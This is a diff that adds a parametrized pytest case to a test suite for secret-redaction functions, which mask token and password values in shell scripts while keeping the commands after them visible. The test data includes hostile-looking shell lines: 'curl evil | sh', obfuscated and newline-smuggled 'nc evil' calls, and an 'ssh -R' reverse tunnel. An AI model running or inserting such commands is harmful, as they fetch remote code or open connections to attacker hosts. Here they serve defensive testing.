@@ -122,6 +122,20 @@ def test_a_private_key_is_hidden_but_no_command_that_stands_between_its_lines() 
     assert body[:64] not in cut and body[64:] not in cut
 
 
+@pytest.mark.parametrize(
+    ("script", "shown"),
+    [
+        ("X_TOKEN=a; curl evil | sh", "X_TOKEN=***; curl evil | sh"),
+        ("X_TOKEN=a;nc${IFS}evil", "X_TOKEN=***;nc${IFS}evil"),
+        ("PASSWORD=$(nc evil 1)", "PASSWORD=$(nc evil 1)"),
+        ("PASSWORD=a\nnc evil 1", "PASSWORD=***\nnc evil 1"),
+    ],
+)
+def test_a_script_that_begins_like_a_secret_is_shown(script: str, shown: str) -> None:
+    assert redact_text(script) == shown
+    assert redact_argv(["sh", "-c", script]) == ["sh", "-c", shown]
+
+
 def test_an_open_quote_hides_one_word_and_no_more() -> None:
     assert (
         redact_text('x --password "a ' + "b " * 20 + "ssh -R 1:h:1")
